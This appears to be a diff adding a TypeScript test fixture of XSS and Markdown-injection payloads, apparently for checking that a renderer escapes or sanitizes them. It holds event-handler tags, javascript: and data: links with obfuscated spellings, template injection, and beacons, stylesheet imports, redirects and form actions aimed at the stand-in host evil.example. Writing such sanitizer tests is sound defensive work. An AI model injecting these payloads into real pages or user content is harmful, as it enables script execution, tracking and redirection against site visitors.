@@ -1,0 +1,43 @@
+/** What runs, loads or leads astray where text is taken for HTML, Markdown for more than words, or an address for harmless. */
+export const payloads: readonly string[] = [
+  `<img src=x onerror=alert(1)>`,
+  `<script>alert(2)</script>`,
+  `"><svg/onload=alert(3)>`,
+  `<iframe srcdoc="<script>alert(4)</script>"></iframe>`,
+  `[press](javascript:alert(5))`,
+  `[press](JaVaScRiPt:alert(6))`,
+  `[press](java\tscript:alert(7))`,
+  `[press](&#106;avascript:alert(8))`,
+  `[press](data:text/html;base64,PHNjcmlwdD5hbGVydCg5KTwvc2NyaXB0Pg==)`,
+  `[press](vbscript:msgbox(10))`,
+  `![beacon](https://evil.example/beacon.png)`,
+  `![beacon](https://evil.example/x.png "onerror=alert(11)")`,
+  `![x](javascript:alert(12))`,
+  `<a href="javascript:alert(13)">x</a>`,
+  `<body onload=alert(14)>`,
+  `<input autofocus onfocus=alert(15)>`,
+  `<details open ontoggle=alert(16)>`,
+  `<video><source onerror=alert(17)></video>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=alert(18)>`,
+  `<style>@import "https://evil.example/a.css"</style>`,
+  `<link rel=stylesheet href=https://evil.example/b.css>`,
+  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
+  `<base href=https://evil.example>`,
+  `<form action=https://evil.example><button>go</button></form>`,
+  `<object data=https://evil.example></object><embed src=https://evil.example>`,
+  "```html\n<img src=x onerror=alert(19)>\n```",
+  "`<img src=x onerror=alert(20)>`",
+  `| <img src=x onerror=alert(21)> |\n| - |\n| [x](javascript:alert(22)) |`,
+  `[x]: javascript:alert(23)\n\n[x]`,
+  `<https://evil.example/"onmouseover="alert(24)>`,
+  `{{constructor.constructor('alert(25)')()}}`,
+  `\u202Egnp.exe\u0000<b>bold</b>`,
+]
+
+/** Some of them as they must stand on the page, letter by letter. */
+export const wordsOfPayload: readonly string[] = [
+  `<img src=x onerror=alert(1)>`,
+  `<script>alert(2)</script>`,
+  `<img src=x onerror=alert(19)>`,
+  `<details open ontoggle=alert(16)>`,
+]
